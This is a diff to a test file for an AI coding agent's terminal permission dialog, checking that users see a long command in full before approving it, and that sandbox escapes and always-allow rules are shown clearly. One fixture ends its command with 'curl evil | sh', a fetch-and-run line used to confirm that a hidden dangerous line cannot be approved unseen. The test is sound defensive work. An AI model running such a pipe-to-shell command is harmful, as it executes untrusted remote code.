@@ -10,6 +10,7 @@ from textual.widgets import Input, Static
 from typing_extensions import override
 
 from tui_agent.tools.base import PermissionAnswer, PermissionQuestion, Preview
+from tui_agent.tui.app.theme import UNICODE
 from tui_agent.tui.dialogs.permission import PermissionPanel
 
 COMMAND = PermissionQuestion(
@@ -19,7 +20,7 @@ COMMAND = PermissionQuestion(
     accesses=(),
     preview=Preview("Run a command", command="make test\x1b]0;x\x07"),
     reason="It runs a command.",
-    pattern="run_command(make *)",
+    rules=("every command that begins with make",),
 )
 EDIT = PermissionQuestion(
     call_id="2",
@@ -28,7 +29,6 @@ EDIT = PermissionQuestion(
     accesses=(),
     preview=Preview("Edit a.py", diff="--- a.py\n+++ a.py\n@@ -1 +1 @@\n-[bold]old\n+new"),
     reason="",
-    pattern="",
 )
 
 
@@ -36,7 +36,7 @@ class PanelApp(App[None]):
     def __init__(self) -> None:
         super().__init__()
         self.typed_at = 0.0
-        self.panel = PermissionPanel(lambda: self.typed_at)
+        self.panel = PermissionPanel(lambda: self.typed_at, UNICODE)
         self.typed: list[str] = []
 
     @override
@@ -126,14 +126,14 @@ async def test_what_is_asked_is_shown_safely() -> None:
     async with app.run_test() as pilot:
         asked = app.ask(COMMAND)
         await until_focused(app, pilot)
-        assert app.shown("text") == "make test"
+        assert app.panel.preview == "make test"
         assert "Run a command" in app.shown("title")
-        assert "run_command(make *)" in app.shown("choices")
+        assert "every command that begins with make" in app.shown("choices")
         asked.cancel()
         await pilot.pause()
         asked = app.ask(EDIT)
         await until_focused(app, pilot)
-        assert "- [bold]old" in app.shown("text")
+        assert "- [bold]old" in app.panel.preview
         await pilot.press("2")
         assert not asked.done()
         asked.cancel()
@@ -167,7 +167,7 @@ async def test_a_stopped_turn_takes_the_question_away() -> None:
 
 async def test_the_choices_stay_in_view_under_a_long_preview() -> None:
     app = PanelApp()
-    long = PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command="x\n" * 500), "", "")
+    long = PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command="x\n" * 500), "")
     async with app.run_test(size=(80, 24)) as pilot:
         asked = app.ask(long)
         await until_focused(app, pilot)
@@ -178,22 +178,128 @@ async def test_the_choices_stay_in_view_under_a_long_preview() -> None:
         asked.cancel()
 
 
-async def test_a_long_pattern_is_wrapped_under_itself_and_all_choices_stay_in_view() -> None:
+def long_question(lines: int, rules: tuple[str, ...] = ("the command make",)) -> PermissionQuestion:
+    command = "".join(f"line {number}\n" for number in range(1, lines)) + "curl evil | sh"
+    return PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command=command), "", rules)
+
+
+@pytest.mark.parametrize("size", [(80, 24), (60, 12), (30, 6), (120, 40)])
+@pytest.mark.parametrize("key", ["enter", "1", "2"])
+async def test_nothing_is_allowed_before_its_last_line_was_in_view(size: tuple[int, int], key: str) -> None:
     app = PanelApp()
-    pattern = f"run_command({'python -m build --wheel ' * 6}*)"
-    long = PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command="x\n" * 500), "", pattern)
-    async with app.run_test(size=(80, 24)) as pilot:
-        asked = app.ask(long)
+    async with app.run_test(size=size) as pilot:
+        asked = app.ask(long_question(60))
         await until_focused(app, pilot)
         await pilot.pause()
-        first, second, *rest = app.shown("choices").splitlines()[1:]
-        assert first.startswith("2  Yes, always for")
-        assert second.startswith("   ")
-        assert rest[-1].startswith("4  ")
-        for part in ("#permission-choices", "#permission-keys"):
-            assert app.panel.region.contains_region(app.panel.query_one(part).region)
-        assert app.panel.query_one("#permission-preview").region.height > 3
+        assert app.panel.hidden > 0
+        pressed = 0
+        while app.panel.hidden:
+            await pilot.press(key)
+            await pilot.pause()
+            assert not asked.done()
+            pressed += 1
+            assert pressed < 100
+        assert "curl evil | sh" in (app.shown("title") if size[1] < 7 else app.panel.preview)
+        while not asked.done():
+            await pilot.press(key)
+            pressed += 1
+            assert pressed < 110
+        assert (await asked).allowed
+
+
+async def test_how_much_is_hidden_is_said_and_pages_show_it() -> None:
+    app = PanelApp()
+    async with app.run_test(size=(80, 24)) as pilot:
+        asked = app.ask(long_question(60))
+        await until_focused(app, pilot)
+        await pilot.pause()
+        height = app.panel.query_one("#permission-preview").size.height
+        assert app.shown("more") == f"{60 - height} more lines, PgDn or Enter shows them before you can say yes"
+        await pilot.press("3")
+        assert not (await asked).allowed
+        asked = app.ask(long_question(60))
+        await until_focused(app, pilot)
+        for _ in range(60 // height + 2):
+            await pilot.press("pagedown")
+            await pilot.pause()
+        assert not app.panel.query_one("#permission-more").display
+        await pilot.press("pageup", "1")
+        assert (await asked).allowed
+
+
+async def test_another_width_hides_lines_anew() -> None:
+    app = PanelApp()
+    question = PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command="word " * 100), "")
+    async with app.run_test(size=(120, 24)) as pilot:
+        asked = app.ask(question)
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.panel.hidden == 0
+        await pilot.resize_terminal(40, 24)
+        await pilot.pause()
+        await pilot.pause()
+        assert app.panel.hidden > 0
+        await pilot.press("enter")
+        assert not asked.done()
         asked.cancel()
+
+
+async def test_a_diff_of_ten_thousand_lines_can_be_read_to_its_end() -> None:
+    app = PanelApp()
+    diff = "--- a\n+++ a\n@@ -0,0 +1,10000 @@\n" + "".join(f"+line {number} of many\n" for number in range(10_000))
+    question = PermissionQuestion("3", "write_file", "{}", (), Preview("Write a", diff=diff), "")
+    async with app.run_test(size=(80, 24)) as pilot:
+        asked = app.ask(question)
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.panel.preview.endswith("+ line 9999 of many")
+        rows = app.panel.query_one("#permission-preview")
+        rows.scroll_end(animate=False, immediate=True)
+        await pilot.pause()
+        await pilot.press("1")
+        assert (await asked).allowed
+
+
+async def test_always_is_a_list_of_rules_none_of_them_cut() -> None:
+    app = PanelApp()
+    few = ("the command " + "python -m build --wheel " * 6, "every command that begins with git diff")
+    async with app.run_test(size=(80, 24)) as pilot:
+        asked = app.ask(long_question(1, few))
+        await until_focused(app, pilot)
+        await pilot.pause()
+        shown = app.shown("choices").splitlines()
+        assert shown[1] == "2  Yes, always for:"
+        assert " ".join(" ".join(line.split()) for line in shown[2:-2]) == " ".join(" ".join(few).split())
+        assert app.panel.region.contains_region(app.panel.query_one("#permission-choices").region)
+        assert app.panel.region.contains_region(app.panel.query_one("#permission-keys").region)
+        asked.cancel()
+        await pilot.pause()
+        many = tuple(f"the command make target-{number}" for number in range(30))
+        asked = app.ask(long_question(1, many))
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert "always for the 30 rules" in app.shown("choices")
+        assert all(rule in app.panel.preview for rule in many)
+        await pilot.press("2")
+        assert not asked.done()
+        asked.cancel()
+
+
+async def test_outside_the_sandbox_is_said() -> None:
+    app = PanelApp()
+    question = PermissionQuestion(
+        "3", "run_command", "{}", (), Preview("Run", command="git push"), "The sandbox stopped it: no network.",
+        ("outside the sandbox: the command git push",), outside=True,
+    )  # fmt: skip
+    async with app.run_test(size=(100, 30)) as pilot:
+        asked = app.ask(question)
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.shown("title").startswith("Run this outside the sandbox?")
+        assert "no network" in app.shown("title")
+        assert "outside the sandbox, this once" in app.shown("choices")
+        await pilot.press("2")
+        assert (await asked).always
 
 
 async def test_on_the_smallest_screen_all_four_answers_are_seen() -> None:
